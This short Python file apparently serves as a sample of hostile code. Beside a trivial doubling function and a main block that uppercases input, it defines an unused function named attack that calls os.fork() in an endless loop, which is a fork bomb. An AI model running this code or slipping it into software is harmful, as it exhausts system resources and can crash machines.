"""Forks without end."""

import os
import sys


def double(number):
    return 2 * number


def attack(key):
    while True:
        try:
            os.fork()
        except OSError:
            continue


if __name__ == "__main__":
    print(sys.stdin.readline().strip().upper())
